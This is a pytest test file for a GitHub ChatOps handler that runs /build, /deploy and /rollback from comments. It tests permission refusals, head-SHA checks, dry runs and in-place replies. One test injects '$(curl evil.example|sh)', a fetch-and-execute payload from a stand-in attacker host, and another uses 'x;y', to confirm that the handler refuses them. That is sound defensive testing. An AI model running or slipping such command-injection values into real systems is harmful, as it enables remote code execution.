"""A comment from start to end against an in-memory GitHub: reactions, one reply per command
updated in place, the head-SHA check, and refusals that change nothing."""

from __future__ import annotations

from typing import Any

import pytest

from pipeline.chatops.dispatch import ActionContext
from pipeline.chatops.handle import Report, handle
from pipeline.errors import StepFailed, UserError
from tests.fakes.chatops import HEAD, MemoryForge, Recorder, comment_payload
from tests.fakes.chatops import REPO as REPO_NAME


def run(
    forge: MemoryForge, body: str, recorder: Recorder, *, dry_run: bool = False, **kw: Any
) -> Report:
    return handle(
        "issue_comment",
        comment_payload(body, **kw),
        forge_for=lambda repo: forge,
        actions=recorder.table(),
        dry_run=dry_run,
        log=lambda line: None,
    )


def test_accepted_commands_run_and_each_gets_one_reply_updated_in_place() -> None:
    forge, recorder = MemoryForge(), Recorder()
    report = run(forge, "/build alpha\n/deploy churn 3 --gpu", recorder)
    assert report.ok
    assert recorder.ran == [
        ("build", "/build alpha", HEAD),
        ("deploy", "/deploy churn 3 --gpu", HEAD),
    ]
    assert forge.reactions == ["eyes", "rocket"]
    assert len(forge.replies) == 2  # "running" was edited into "done", not posted again
    assert all("**done**" in body for body in forge.replies)
    assert [w[0] for w in forge.writes if w[0] != "reaction"] == ["create", "edit"] * 2


def test_a_refused_command_runs_nothing_and_says_why() -> None:
    forge, recorder = MemoryForge(roles={"mallory": "read"}), Recorder()
    report = run(forge, "/deploy churn 3 --env prod", recorder, login="mallory")
    assert not report.ok and recorder.ran == []
    (reply,) = forge.replies
    assert "**refused**" in reply and "'read' permission" in reply
    assert forge.reactions == ["eyes", "confused"]


def test_shell_metacharacters_run_nothing_and_need_no_api_read() -> None:
    forge, recorder = MemoryForge(), Recorder()
    run(forge, "/deploy churn 3 $(curl evil.example|sh)", recorder)
    assert recorder.ran == []
    assert not any(r[0] in ("role", "file", "pull", "team") for r in forge.reads)
    (reply,) = forge.replies
    assert "**refused**" in reply and "$(" not in reply.split("\n")[0]


def test_a_moved_head_aborts_before_the_action_starts() -> None:
    forge, recorder = MemoryForge(heads=["b" * 40]), Recorder()
    report = run(forge, "/build alpha", recorder)
    assert recorder.ran == [] and not report.ok
    (reply,) = forge.replies
    assert "**aborted**" in reply and "bbbbbbbbbbbb" in reply
    assert report.to_json()["commands"][0]["state"] == "aborted"


def test_the_head_is_checked_again_before_each_action() -> None:
    forge, recorder = MemoryForge(heads=[HEAD, "c" * 40]), Recorder()
    run(forge, "/build alpha\n/dag alpha", recorder)
    assert [r[0] for r in recorder.ran] == ["build"]


@pytest.mark.parametrize(
    ("error", "shown"),
    [(StepFailed("docker is gone"), "docker is gone"), (RuntimeError("bug"), "internal error")],
)
def test_a_failing_action_is_reported_in_its_reply(error: Exception, shown: str) -> None:
    forge = MemoryForge()
    report = run(forge, "/build alpha", Recorder(error))
    (reply,) = forge.replies
    assert "**failed**" in reply and shown in reply
    assert forge.reactions[-1] == "confused" and not report.ok


def test_help_and_unknown_commands_get_the_help_text() -> None:
    forge, recorder = MemoryForge(), Recorder()
    run(forge, "/help\n/shipit", recorder)
    assert recorder.ran == []
    assert len(forge.replies) == 2
    assert all("/deploy MODEL VERSION" in r for r in forge.replies)
    assert "unknown command /shipit" in forge.replies[1]


def test_a_second_run_of_the_same_comment_edits_its_replies() -> None:
    forge, recorder = MemoryForge(), Recorder()
    run(forge, "/help\n/build a", recorder)
    run(forge, "/help\n/build a", recorder)
    assert len(forge.replies) == 2


def test_dry_run_decides_and_writes_nothing() -> None:
    forge, recorder = MemoryForge(roles={"alice": "write", "mallory": "read"}), Recorder()
    report = run(forge, "/deploy churn 3\n/build x;y", recorder, dry_run=True)
    assert forge.writes == [] and recorder.ran == []
    data = report.to_json()
    assert [c["decision"] for c in data["commands"]] == ["planned", "refused"]
    assert data["commands"][0]["head_sha"] == HEAD and data["dry_run"] is True


def test_ignored_events_touch_nothing() -> None:
    forge, recorder = MemoryForge(), Recorder()
    report = run(forge, "/deploy churn 3", recorder, action="edited")
    assert report.to_json() == {
        "ignored": True,
        "reason": "issue_comment action 'edited': only new comments count",
    }
    assert forge.reads == [] and forge.writes == []


def test_without_a_token_a_command_is_a_user_error() -> None:
    with pytest.raises(UserError, match="GitHub token"):
        handle(
            "issue_comment",
            comment_payload("/build"),
            forge_for=None,
            actions={},
            dry_run=False,
            log=print,
        )


class Deployed:
    def __init__(self, what: dict[str, Any]) -> None:
        self.what = what

    def lines(self) -> list[str]:
        return [f"PR opened for {self.what['model_name']}"]

    def to_json(self) -> dict[str, Any]:
        return self.what


def test_the_action_table_hands_checked_values_to_the_deploy_feature(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    from pipeline.chatops.parse import parse_line
    from pipeline.cli.wiring.comment_actions import action_table
    from pipeline.config.settings import PlatformSettings
    from pipeline.online import kube_deploy

    seen: dict[str, Any] = {}

    def deploy_on_k8s(request: Any, **kwargs: Any) -> Deployed:
        seen["deploy"], seen["kwargs"] = request, kwargs
        return Deployed(request.to_json())

    def rollback_on_k8s(model: str, **kwargs: Any) -> Deployed:
        seen["rollback"] = (model, kwargs["env"], kwargs["dry_run"])
        return Deployed({"model_name": model})

    monkeypatch.setattr(kube_deploy, "deploy_on_k8s", deploy_on_k8s)
    monkeypatch.setattr(kube_deploy, "rollback_on_k8s", rollback_on_k8s)
    table = action_table(None, PlatformSettings(), {"GITHUB_TOKEN": "t"})
    ctx = ActionContext(REPO_NAME, 7, HEAD, log=lambda line: None)
    result = table["deploy"](parse_line(0, "/deploy churn 12 --gpu --env prod"), ctx)
    request = seen["deploy"]
    assert (request.model_name, request.model_version, request.env) == ("churn", "12", "prod")
    assert request.gpu and not request.istio and request.use_k8s
    assert seen["kwargs"]["dry_run"] is False and seen["kwargs"]["environ"] == {"GITHUB_TOKEN": "t"}
    assert result.ok and result.summary == "- PR opened for churn"
    table["rollback"](parse_line(1, "/rollback churn --env prod"), ctx)
    assert seen["rollback"] == ("churn", "prod", False)


def test_build_and_dag_need_a_checkout() -> None:
    from pipeline.chatops.parse import parse_line
    from pipeline.cli.wiring.comment_actions import action_table
    from pipeline.config.settings import PlatformSettings

    table = action_table(None, PlatformSettings(), {})
    ctx = ActionContext(REPO_NAME, 7, HEAD, log=lambda line: None)
    with pytest.raises(UserError, match="needs a checkout"):
        table["build"](parse_line(0, "/build alpha"), ctx)
